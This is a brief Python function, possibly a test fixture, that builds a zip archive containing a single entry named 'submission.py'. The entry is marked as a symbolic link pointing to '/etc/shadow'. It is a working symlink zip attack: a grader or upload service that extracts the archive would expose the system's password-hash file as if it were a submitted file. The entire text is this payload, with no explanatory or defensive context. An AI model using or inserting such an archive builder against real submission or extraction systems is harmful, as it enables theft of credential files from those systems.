def make():
    import io,zipfile; b=io.BytesIO(); z=zipfile.ZipFile(b,'w'); i=zipfile.ZipInfo('submission.py'); i.external_attr=0o120777<<16
    z.writestr(i,'/etc/shadow'); z.close(); return b.getvalue()
